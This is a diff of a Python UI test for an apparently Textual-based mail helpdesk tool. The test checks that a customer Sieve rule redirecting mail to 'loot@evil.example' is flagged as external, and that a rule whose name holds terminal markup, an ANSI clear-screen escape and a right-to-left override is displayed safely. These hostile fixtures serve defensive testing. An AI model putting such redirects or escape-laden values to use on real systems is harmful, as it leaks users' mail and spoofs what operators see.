@@ -93,18 +93,29 @@ async def test_a_customer_script_that_redirects_outside_is_flagged_and_deactivat
         create_mailbox(conn, ADDRESS, password_hash="x")
     folder = tmp_path / "sieve"
     put(folder, ADDRESS, "own", 'require ["copy"];\nredirect :copy "loot@evil.example";\n')
+    # Outside text: a name and a target with markup and escapes, shown as text (check()).
+    hostile = "[@click=app.quit]bye[]\x1b[2J\u202e"
+    put(folder, ADDRESS, hostile, f'redirect "{hostile}@x.example";\n', active=False)
     config = tmp_path / "helpdesk.toml"
     config.write_text(f'[database]\nurl = "{url}"\n\n[sieve]\nrules_command = {command(folder)}\n')
     app = WatchedApp(load_config(config))
     async with app.run_test(size=(80, 24)) as pilot:
         await app.push_screen(Host())
         rows = await _rows(app, pilot)
-        check(app, "sweep tab, a rule")
-        assert len(rows) == 1 and "rule added: own" in rows[0] and "EXTERNAL" in rows[0], rows
+        check(app, "sweep tab, rules")
+        own = next(i for i, r in enumerate(rows) if "rule added: own" in r)
+        assert len(rows) == 2 and "EXTERNAL" in rows[own], rows
         status = app.screen.query_one("#sweep-status", StatusLine).text
         assert "rules not read" not in status, status
         table = app.screen.query_one("#sweep-table", DataTable)
         table.focus()
+        table.move_cursor(row=1 - own)
+        await pilot.press("enter")
+        await settle(app, pilot)
+        check(app, "sweep detail, a hostile rule")
+        await pilot.press("escape")
+        await settle(app, pilot)
+        table.move_cursor(row=own)
         await pilot.press("u")
         await settle(app, pilot)
         assert isinstance(app.screen, TicketDialog)
